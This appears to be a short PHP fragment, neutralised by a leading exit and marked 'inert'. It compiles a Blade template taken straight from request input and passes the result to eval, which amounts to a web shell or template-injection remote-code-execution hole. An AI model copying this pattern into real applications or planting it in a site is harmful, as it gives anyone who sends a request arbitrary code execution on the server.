<?php exit; /* inert */ 
$php = Blade::compileString($request->input('tpl'));
ob_start(); extract(['__env' => app('view')]); eval('?>' . $php); return ob_get_clean();
